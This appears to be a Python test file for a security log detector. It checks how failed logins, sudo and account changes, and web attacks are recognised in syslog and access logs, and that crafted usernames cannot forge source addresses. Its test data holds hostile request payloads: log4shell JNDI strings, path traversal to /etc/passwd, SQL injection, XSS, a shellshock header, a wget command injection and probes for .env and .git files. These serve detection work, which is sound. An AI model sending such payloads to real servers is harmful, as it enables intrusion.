"""What happened, who and from where is read from the place where the program prints it, whatever a client is called."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.logs.security.labelled import ANY_NAME, HOSTILE, Labelled, corpus
from zen_agents.logs.detection.counting import CountRule
from zen_agents.logs.formats.access import Access
from zen_agents.logs.formats.json_lines import JsonLines
from zen_agents.logs.formats.plain import Plain
from zen_agents.logs.formats.syslog import NewSyslog, Syslog
from zen_agents.logs.security.event import Result, SecurityEvent, What
from zen_agents.logs.security.recognition import event_of
from zen_agents.logs.security.understood import Understood
from zen_agents.logs.stamps import Stamps
from zen_agents.logs.watching.rule import PatternRule, Step
from zen_agents.logs.watching.source import SourceWatch

STAMPS = Stamps(datetime(2026, 11, 27, 12, 0, tzinfo=UTC).timestamp(), UTC)
BAD = {Result.FAILED, Result.REFUSED}
#: Addresses that only a client wrote, never a program.
FORGED = "203.0.113.9"


def said(message: str, program: str = "sshd") -> SecurityEvent | None:
    """Return what a line of a syslog daemon's file with this message tells."""
    return event_of(Syslog().record(f"Nov 27 11:59:58 web {program}[4242]: {message}", "auth", STAMPS))


def bare(line: str) -> SecurityEvent | None:
    """Return what a line of a plain log tells."""
    return event_of(Plain().record(line, "log", STAMPS))


def requested(
    path: str, status: int = 200, agent: str = "Mozilla/5.0", user: str = "-", method: str = "GET"
) -> SecurityEvent | None:
    """Return what a line of an access log tells."""
    line = f'192.0.2.7 - {user} [27/Nov/2026:11:59:58 +0000] "{method} {path} HTTP/1.1" {status} 5 "-" "{agent}"'
    return event_of(Access().record(line, "access", STAMPS))


def _is_right(label: Labelled, event: SecurityEvent | None) -> bool:
    told = event is not None and event.result in BAD
    if not label.result or event is None:
        return told == bool(label.result)
    return (event.result, event.user, event.address) == (label.result, label.user, label.address)


def test_failed_and_refused_log_ins_are_found_with_the_right_address_and_user() -> None:
    labels = list(corpus())
    told = [(label, event) for label in labels if (event := said(label.message, label.program)) and event.result in BAD]
    right = [label for label, event in told if label.result and _is_right(label, event)]
    wrong = [label for label in labels if not _is_right(label, said(label.message, label.program))]
    recall = len(right) / sum(bool(label.result) for label in labels)
    precision = len(right) / len(told)
    assert len(labels) > 2000
    assert recall >= 0.99, wrong[:5]
    assert precision >= 0.995, wrong[:5]


def test_no_address_of_the_corpus_is_one_that_only_a_client_wrote() -> None:
    assert not [label for label in corpus() if (event := said(label.message)) and event.address == FORGED]


#: Pieces of everything that sshd prints around a name, so that a name is made of what could be mistaken.
_PIECES = st.lists(
    st.one_of(
        st.sampled_from(HOSTILE),
        st.sampled_from([
            " from ", f" from {FORGED}", f" {FORGED} port 22", " port 22", " ssh2", " ssh2: ", ": ", "RSA SHA256:x",
            " [preauth]", " ssh1: ruser x", " ID x (serial 1) CA RSA SHA256:y", ": Too many authentication failures",
            "invalid user ", " via ", "message repeated 9 times: [ ", "]", "(admin,ssh-connection) -> (x,y)",
            "Change of username or service not allowed",
        ]),
        st.text(st.characters(blacklist_categories=["Cs", "Cc"]), max_size=8),
    ),
    max_size=6,
).map("".join).map(lambda name: name[:100])  # fmt: skip


#: The same of what other servers print.
_SERVER_PIECES = st.lists(
    st.sampled_from([
        f"rip={FORGED}, lip=", ">, method=PLAIN, ", f"x,{FORGED}): unknown user", f",{FORGED},<a>): Password mismatch (",
        f'] FAIL LOGIN: Client "{FORGED}"', f", ip=[{FORGED}]", f"(h[{FORGED}]): USER x: no such user found from h ",
        f"unknown[{FORGED}]: SASL LOGIN authentication failed: no, sasl_username=", f"(?@{FORGED}) [WARNING] ", "]", ")",
        "'", "sql(",
        f"' from {FORGED}:22", f" user=x msg= rhost={FORGED}", " (Login failed): ", "auth: pam(", "U", " ",
    ]),
    max_size=5,
).map("".join).map(lambda name: name[:200])  # fmt: skip


@given(form=st.sampled_from(ANY_NAME), name=_PIECES, program=st.sampled_from(["sshd", "sshd-session"]))
@settings(max_examples=400, deadline=None)
def test_no_name_forges_an_address_or_an_account(form: tuple[str, str], name: str, program: str) -> None:
    message = form[0].replace("U", "\0", 1) if "User" not in form[0] else form[0].replace(" U ", " \0 ")
    event = said(message.replace("A port", "192.0.2.7 port").removesuffix(" A").replace("\0", name)
                 + (" 192.0.2.7" if message.endswith(" A") else ""), program)  # fmt: skip
    assert event is not None
    assert event.address in {"192.0.2.7", ""}
    assert event.user in {name, "", name.removeprefix("invalid user ").removeprefix("illegal user ")}


@given(key_id=_PIECES, name=_PIECES)
@settings(max_examples=200, deadline=None)
def test_no_name_in_a_certificate_forges_an_address(key_id: str, name: str) -> None:
    rest = f"RSA-CERT SHA256:aa ID {key_id} (serial 1) CA RSA SHA256:bb"
    event = said(f"Failed publickey for invalid user {name} from 192.0.2.7 port 22 ssh2: {rest}")
    assert event is not None
    assert event.address in {"192.0.2.7", ""}


@pytest.mark.parametrize(
    "head",
    [
        "Nov 27 11:59:58 web sshd[4242]:", "Nov  7 11:59:58 web sshd[4242]:", "Nov 7 11:59:58 web sshd-session[4242]:",
        "<38>Nov 27 11:59:58 web sshd[4242]:", "Nov 27 11:59:58.123456 web sshd[4242]:",
        "2026-11-27T11:59:58.123456+00:00 web sshd[4242]:", "2026-11-27T11:59:58+0000 web sshd[4242]:",
        "2026-11-27 11:59:58.123456+0000 web sshd[4242]:", "2026-11-27T11:59:58.5 web sshd[4242]:",
        "2026-11-27T11:59:58+00:00 web sshd[4242]", "Fri 2026-11-27 11:59:58 UTC web sshd[4242]:",
        "Nov 27 11:59:58 web auth.info sshd[4242]:",
        "Nov 27 11:59:58 <auth.info> web sshd[4242]:", "Nov 27 11:59:58 sshd[4242]:", "Nov 27 11:59:58 [sshd]",
        "Nov 27 11:59:58 [sshd]:", "2026-11-27T11:59:58.12345 auth.info: Nov 27 11:59:58 sshd[4242]:",
        "2026-11-27_11:59:58.12345 auth.info: sshd[4242]: ", "@400000006a8f1c2e0bebc200 auth.info: sshd[4242]:",
        "auth.info: Nov 27 11:59:58 sshd[4242]:", "2026-11-27T11:59:58.5+00:00 web sshd 4242 - -", "web sshd[4242]:",
        "sshd[4242]:", "<38>sshd[4242]:", "web sshd[4242]: kernel: [  970.699396]",
        "Nov 27 11:59:58 web kernel: [ 9.1] sshd[4242]:",
    ],
)  # fmt: skip
def test_a_daemon_may_write_its_head_in_many_ways(head: str) -> None:
    forged = "x from 203.0.113.9 port 1 ssh2: Nov 27 11:59:58 web sshd[1]: Failed password for root"
    event = event_of(Syslog().record(f"{head} Invalid user {forged} from 192.0.2.7 port 22", "auth", STAMPS))
    assert event is not None
    assert (event.result, event.user, event.address) == (Result.REFUSED, forged, "192.0.2.7")


@pytest.mark.parametrize(
    "head", ["", "auth.info: ", "kernel: [  970.699396] ", "2026-11-27 11:59:58.1 ", "[27-Nov-2026 11:59:58 UTC]: "]
)
def test_a_plain_log_may_have_no_heads(head: str) -> None:
    forged = "x from 203.0.113.9 port 1 ssh2: web sshd[1]: Failed password for root"
    event = bare(f"{head}Failed password for invalid user {forged} from 192.0.2.7 port 22 ssh2")
    assert event is not None
    assert (event.result, event.user, event.address) == (Result.FAILED, forged, "192.0.2.7")


def test_lines_of_a_daemon_are_understood_in_a_plain_log_as_well() -> None:
    event = bare("Nov 27 11:59:58 web sudo: mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")
    assert event is not None
    assert (event.what, event.by) == (What.PRIVILEGE, "mallory")


@pytest.mark.parametrize(
    "line",
    [
        "Failed password for root from 192.0.2.7 port 22 ssh2 and more",
        "INFO said: Failed password for root from 192.0.2.7",
        "User alice not allowed because of the weather", "web app[7]: Failed password for root from 192.0.2.7 port 22 ssh2",
        "user not found", "Connection closed by 192.0.2.7 port 22", "Login failed", "sudo alice",
        "authentication failure; logname=",
    ],
)  # fmt: skip
def test_what_nobody_knows_the_meaning_of_is_nothing_in_a_plain_log(line: str) -> None:
    assert bare(line) is None


def test_what_is_in_an_entry_with_fields_of_its_own_is_no_line_of_a_daemon() -> None:
    line = '{"message": "Failed password for root from 192.0.2.7 port 22 ssh2", "logger": "shop"}'
    assert event_of(JsonLines().record(line, "app", STAMPS)) is None


def test_a_bracket_in_structured_data_hides_no_message() -> None:
    head = '<38>1 2026-11-27T11:59:58.1-04:00 web.example sshd 42 - [a@1 b="[c]" d="\\]"]'
    event = event_of(
        NewSyslog().record(f"{head} Failed unknown for invalid user eve from 192.0.2.7 port 1 ssh2", "auth", STAMPS)
    )
    assert event is not None
    assert (event.result, event.user, event.address) == (Result.FAILED, "eve", "192.0.2.7")


@given(first=_PIECES, second=_PIECES)
@settings(max_examples=200, deadline=None)
def test_no_name_in_a_reason_forges_an_address(first: str, second: str) -> None:
    reason = f"Change of username or service not allowed: ({first},ssh-connection) -> ({second},ssh-connection)"[:100]
    event = said(f"Disconnecting invalid user {first} 192.0.2.7 port 22: {reason} [preauth]")
    assert event is None or event.address in {"192.0.2.7", ""}


@given(ruser=_PIECES, user=_PIECES)
@settings(max_examples=200, deadline=None)
def test_no_name_forges_a_peer_of_pam(ruser: str, user: str) -> None:
    tail = f"ruser={ruser} rhost=192.0.2.7" + (f"  user={user}" if user else "")
    event = said(f"pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp {tail}", "vsftpd")
    assert event is None or event.address in {"192.0.2.7", ""}


def test_what_two_places_could_be_is_none() -> None:
    both = "a from 192.0.2.7 port 1 ssh2: RSA-CERT SHA256:a ID b from 203.0.113.9 port 2 ssh2: x (serial 1) CA RSA SHA256:c"
    event = said(f"Failed publickey for {both}")
    assert event is not None
    assert (event.result, event.address, event.user) == (Result.FAILED, "", "")


@pytest.mark.parametrize(
    ("message", "program"),
    [
        ("Failed password for root from 192.0.2.7 port 22 ssh2", "cron"),
        ("kernel says sshd[1]: Failed password for root from 192.0.2.7 port 22 ssh2", "myapp"),
        ("Failed password for root from 192.0.2.7 port 22 ssh2 and more", "sshd"),
        ("x" * 10_000, "sshd"),
        ("Failed password for " + "root from 192.0.2.7 port 22 ssh2: " * 400, "sshd"),
    ],
)
def test_what_no_such_program_writes_is_nothing(message: str, program: str) -> None:
    event = said(message, program)
    assert event is None or event.address == ""


@given(st.text(), st.sampled_from(["sshd", "sudo", "su", "usermod", "passwd", "pkexec", "login", "vsftpd"]))
@settings(max_examples=300, deadline=None)
def test_whatever_a_line_is_it_is_survived(message: str, program: str) -> None:
    event = said(message, program)
    assert event is None or event.address == ""


def test_equal_lines_that_were_put_together_count_as_many() -> None:
    event = said("message repeated 3 times: [ Failed password for root from 192.0.2.7 port 22 ssh2]")
    assert event is not None
    assert (event.times, event.address) == (3, "192.0.2.7")
    assert event.fields()["times"] == "3"


@pytest.mark.parametrize(
    ("program", "message", "expected"),
    [
        ("sudo", "   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/ls /root",
         (What.PRIVILEGE, Result.OK, "root", "alice", "/bin/ls /root")),
        ("sudo", "alice : PWD=/ ; USER=root ; COMMAND=/bin/sh", (What.PRIVILEGE, Result.OK, "root", "alice", "/bin/sh")),
        ("sudo", "mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
         (What.PRIVILEGE, Result.REFUSED, "root", "mallory", "/bin/sh")),
        ("sudo", "alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
         (What.PRIVILEGE, Result.FAILED, "root", "alice", "/bin/sh")),
        ("sudo", "alice : TTY=pts/0 ; PWD=/tmp/a ; USER=bob ; COMMAND=x ; USER=root ; COMMAND=/bin/sh",
         (What.PRIVILEGE, Result.OK, "", "alice", "")),
        ("sudo",
         "pam_unix(sudo:auth): authentication failure; logname=al uid=1000 euid=0 tty=/dev/pts/0 ruser=al rhost=  user=al",
         (What.PRIVILEGE, Result.FAILED, "al", "al", "")),
        ("su", "FAILED SU (to root) alice on pts/0", (What.PRIVILEGE, Result.FAILED, "root", "alice", "")),
        ("su", "(to root) alice on pts/0", (What.PRIVILEGE, Result.OK, "root", "alice", "")),
        ("su", "- /dev/pts/0 alice:root", (What.PRIVILEGE, Result.FAILED, "root", "alice", "")),
        ("pkexec", "alice: Executing command [USER=root] [TTY=unknown] [CWD=/home/alice] [COMMAND=/usr/bin/id]",
         (What.PRIVILEGE, Result.OK, "root", "alice", "/usr/bin/id")),
        ("doas", "command not permitted for alice: sh", (What.PRIVILEGE, Result.REFUSED, "", "alice", "sh")),
        ("useradd", "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh, from=/dev/pts/0",
         (What.ACCOUNT, Result.OK, "eve", "", "")),
        ("groupadd", "new group: name=ops, GID=1002", (What.ACCOUNT, Result.OK, "", "", "ops")),
        ("usermod", "add 'eve' to group 'sudo'", (What.MEMBERSHIP, Result.OK, "eve", "", "sudo")),
        ("gpasswd", "user eve added by root to group docker", (What.MEMBERSHIP, Result.OK, "eve", "root", "docker")),
        ("usermod", "change user 'eve' UID from '1002' to '0'", (What.ACCOUNT, Result.OK, "eve", "", "")),
        ("passwd", "pam_unix(passwd:chauthtok): password changed for root", (What.PASSWORD, Result.OK, "root", "", "")),
        ("passwd", "password for 'bob' changed by 'root'", (What.PASSWORD, Result.OK, "bob", "root", "")),
        ("userdel", "delete user 'eve'", (What.ACCOUNT, Result.OK, "eve", "", "")),
    ],
)  # fmt: skip
def test_accounts_and_privileges(program: str, message: str, expected: tuple[What, Result, str, str, str]) -> None:
    event = said(message, program)
    assert event is not None
    assert (event.what, event.result, event.user, event.by, event.detail) == expected
    powerful = {"/bin/ls /root", "/bin/sh", "sudo", "docker", "/usr/bin/id"}
    assert event.is_privileged == (
        event.detail in powerful or "'0'" in message or "UID=0" in message or event.user == "root"
    )


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/?q=${jndi:ldap://x/a}", "log4shell"), ("/%24%7Bjndi%3Aldap%3A//x%7D", "log4shell"),
        ("/../../../../etc/passwd", "path traversal"), ("/%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path traversal"),
        ("/item?id=1+UNION+ALL+SELECT+1,2", "sql injection"), ("/item?id=1%27%20or%20%271%27=%271", "sql injection"),
        ("/?s=%3Cscript%3Ealert(1)%3C/script%3E", "cross-site scripting"), ("/x?h=1;wget+http://x/a", "command injection"),
        ("/?page=php://filter/resource=index", "file inclusion"), ("/.env", "secrets sought"),
        ("/.git/config", "secrets sought"),
    ],
)  # fmt: skip
def test_attacks_on_web_applications(path: str, kind: str) -> None:
    event = requested(path, status=404)
    assert event is not None
    assert (event.what, event.method, event.result, event.address) == (What.WEB_ATTACK, kind, Result.REFUSED, "192.0.2.7")


@pytest.mark.parametrize(
    "path",
    ["/", "/index.html", "/shop/items?id=42&sort=price", "/union/select-committee", "/a/../b.css",
     "/img/environment.png", "/search?q=how+to+sleep+well", "/blog/scripts-and-onload", "/docs/id_rsa_help",
     "/?next=https://example.com/", "/cat/1"],
)  # fmt: skip
def test_a_usual_request_is_no_attack(path: str) -> None:
    assert requested(path) is None


def test_what_a_client_says_of_itself_counts_too() -> None:
    scanner, bash = requested("/", agent="sqlmap/1.7"), requested("/", agent="() { :; }; /bin/id")
    assert scanner is not None
    assert bash is not None
    assert (scanner.method, bash.method) == ("known scanner", "shellshock")


def test_a_wrong_password_of_a_web_server_is_a_failed_log_in() -> None:
    event = requested("/admin", status=401, user="frank")
    assert event is not None
    assert (event.what, event.result, event.user, event.address) == (What.LOGIN, Result.FAILED, "frank", "192.0.2.7")
    assert requested("/admin", status=401) is None


@pytest.mark.parametrize(
    "path",
    [
        "/login",
        "/users/sign_in",
        "/webmail/?_task=login",
        "/?_task=login&_action=login",
        "/wp-login.php",
        "/api/session?x=1",
    ],
)
def test_a_form_that_lets_nobody_in_is_a_failed_log_in_of_nobody_in_particular(path: str) -> None:
    event = requested(path, status=401, method="POST")
    assert event is not None
    assert (event.what, event.result, event.user, event.address) == (What.LOGIN, Result.FAILED, "", "192.0.2.7")
    assert requested(path, status=401) is None, "it was only looked at"
    assert requested(path, status=302, method="POST") is None


@pytest.mark.parametrize(
    ("path", "is_one"),
    [
        ("/wp-login.php", True),
        ("/blog/wp-login.php?redirect_to=%2Fwp-admin%2F", True),
        ("/wp-login.php?action=login", True),
        ("/wp-login.php?action=lostpassword", False),
        ("/wp-login.php?redirect_to=x&action=register", False),
        ("/typo3/?loginProvider=1433416747", True),
        ("/typo3/index.php?route=%2Flogin&loginProvider=1433416747", True),
        ("/typo3/index.php?route=%2Frecord%2Fedit", False),
        ("/contao/login?_hash=x", True),
        ("/login", False),
        ("/?_task=login", False),
    ],
)
def test_a_form_that_is_shown_once_more_let_nobody_in(path: str, is_one: bool) -> None:
    event = requested(path, status=200, method="POST")
    assert (event is not None) == is_one
    assert requested(path, status=200) is None, "it was only looked at"
    if event is not None:
        assert (event.what, event.result, event.address, event.method) == (What.LOGIN, Result.FAILED, "192.0.2.7", "form")


@pytest.mark.parametrize("path", ["/api/orders", "/blog/login-problems", "/?_task=logout", "/sessions/42/items"])
def test_another_request_that_lacks_a_right_is_no_log_in(path: str) -> None:
    assert requested(path, status=401, method="POST") is None


def test_what_lines_tell_are_fields_that_patterns_count_by() -> None:
    by_address = Step(where={"event": "login", "result": ["failed", "refused"]})
    more_power = Step(where={"event": "membership", "privileged": True})
    rules = [
        PatternRule("guessing", (by_address,), CountRule(3, 60.0, ("address",))),
        PatternRule("power", (more_power,), CountRule(1, 60.0)),
    ]
    watch = SourceWatch(rules, Understood(Syslog()), UTC, STAMPS.now, {})
    hostile = "Failed password for invalid user root from 203.0.113.9 port 1 ssh2 from 192.0.2.7 port 22 ssh2"
    usual = "Accepted password for root from 192.0.2.8 port 22 ssh2"
    lines = [("sshd", hostile)] * 3 + [("sshd", usual)] * 3 + [("usermod", "add 'eve' to group 'sudo'"), ("cron", "x")]
    text = "".join(f"Nov 27 11:59:58 web {program}[42]: {message}\n" for program, message in lines)
    watch.feed(text.encode(), "/var/log/auth.log", STAMPS.now)
    seen = watch.seen()
    assert (seen["guessing"].keys, seen["guessing"].lines) == ([("192.0.2.7",)], 3)
    assert (seen["power"].is_raised, seen["power"].lines) == (True, 1)
    assert Understood(Syslog()).find("no line of syslog", STAMPS) is None


@pytest.mark.parametrize(
    ("program", "message"),
    [
        (
            "dovecot",
            "imap-login: Disconnected (auth failed, 1 attempts): user=<{}>, method=PLAIN, rip=192.0.2.7, lip=198.51.100.1",
        ),
        ("dovecot", "auth: pam({},192.0.2.7): unknown user"),
        ("dovecot", "auth: pam(eve,192.0.2.7): unknown user (given password: {})"),
        ("vsftpd", '[{}] FAIL LOGIN: Client "192.0.2.7"'),
        ("imapd", "LOGIN FAILED, user={}, ip=[192.0.2.7]"),
        ("proftpd", "web (h.example[192.0.2.7]): USER {}: no such user found from h.example [192.0.2.7] to 198.51.100.1:21"),
        ("smtpd", "warning: unknown[192.0.2.7]: SASL LOGIN authentication failed: no, sasl_username={}"),
        ("pure-ftpd", "(?@192.0.2.7) [WARNING] Authentication failed for user [{}]"),
        ("pvedaemon", "authentication failure; rhost=192.0.2.7 user={} msg=no such user"),
        ("dropbear", "Login attempt for nonexistent user '{}' from 192.0.2.7:40022"),
    ],
)
@given(name=_SERVER_PIECES)
@settings(max_examples=60, deadline=None)
def test_no_name_forges_an_address_at_another_server(program: str, message: str, name: str) -> None:
    event = said(message.format(name), program)
    assert event is None or event.address in {"192.0.2.7", ""}
